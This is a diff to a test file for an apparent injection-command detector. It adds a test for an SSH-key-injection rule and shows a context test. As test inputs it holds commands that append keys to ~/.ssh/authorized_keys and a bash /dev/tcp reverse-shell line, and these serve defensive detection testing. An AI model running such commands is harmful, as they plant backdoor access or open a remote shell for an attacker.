@@ -165,6 +165,16 @@ def test_every_injection_variant_has_a_positive():
     assert variants - {rule_id for rule_id, _ in POSITIVES} == set()
 
 
+@pytest.mark.parametrize("key_type", ["ssh-rsa", "ssh-ed25519", "ecdsa-sha2-nistp256"])
+def test_a_key_written_into_authorized_keys_is_one_finding_not_two(key_type):
+    text = (f"echo '{fakes.ssh_public_key(key_type)}' >> ~/.ssh/authorized_keys\n"
+            "cat /tmp/k.pub >> ~/.ssh/authorized_keys")
+    found = {(p, v) for p, v in detect(text) if p == "ssh_key_inject"}
+    assert found == {("ssh_key_inject", "key_appended"), ("ssh_key_inject", "append_authorized_keys")}
+    assert {(p, v) for p, v in detect(text.split("\n")[0]) if p == "ssh_key_inject"} == {
+        ("ssh_key_inject", "key_appended")}
+
+
 def test_injection_rules_do_not_run_on_outbound_text():
     """A prompt that quotes a reverse shell is the user's text, not a payload arriving."""
     assert not {p for p, _ in detect(f"bash -i >& /dev/tcp/{HOST}/4444 0>&1", OUTBOUND) if p in INJECTION_PATTERNS}
